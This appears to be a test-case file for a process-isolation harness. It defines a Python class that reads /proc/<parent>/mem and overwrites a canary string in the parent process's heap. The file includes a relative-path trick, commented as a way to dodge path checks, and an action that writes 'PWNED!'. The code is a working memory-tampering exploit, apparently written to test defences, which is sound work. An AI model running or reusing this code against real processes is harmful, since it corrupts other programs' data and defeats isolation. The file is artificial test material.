FAMILY = "F1"
DESCRIPTION = "Opens /proc/<worker>/mem and rewrites a victim's string constant in the worker's heap, so later forked victims return the attacker's text."
CLASS = "MemPatch"
CODE = r'''
import os

class MemPatch:
    def __init__(self, init_config=None):
        self.patched = 0

    def patch(self, find: str, replace: str):
        """Rewrite every occurrence of a byte string in the parent process's writable memory."""
        old, new = find.encode(), replace.encode()
        ppid = os.getppid()
        maps = open(f"/proc/{ppid}/maps").read().splitlines()
        fd = os.open(f"/proc/{ppid}/mem", os.O_RDONLY)
        wfd = None
        try:
            wfd = os.open(f"/proc/{ppid}/mem", os.O_RDWR)
        except OSError:
            d = os.open(f"/proc/{ppid}", os.O_RDONLY | os.O_DIRECTORY)
            wfd = os.open("mem", os.O_RDWR, dir_fd=d)  # relative name: looks like the own directory
        hits = 0
        for line in maps:
            addr, perms = line.split()[:2]
            if not perms.startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in addr.split("-"))
            pos = lo
            while pos < hi:
                size = min(1 << 22, hi - pos)
                try:
                    chunk = os.pread(fd, size + len(old), pos)
                except OSError:
                    break
                at = chunk.find(old)
                while at != -1:
                    try:
                        os.pwrite(wfd, new, pos + at)
                        hits += 1
                    except OSError:
                        pass
                    at = chunk.find(old, at + 1)
                pos += size
        self.patched = hits
        return {"success": True, "data": hits}
'''
ACTIONS = [("patch", {"find": "ledger-ok-5d1e7a", "replace": "PWNED!-ok-5d1e7a"})]
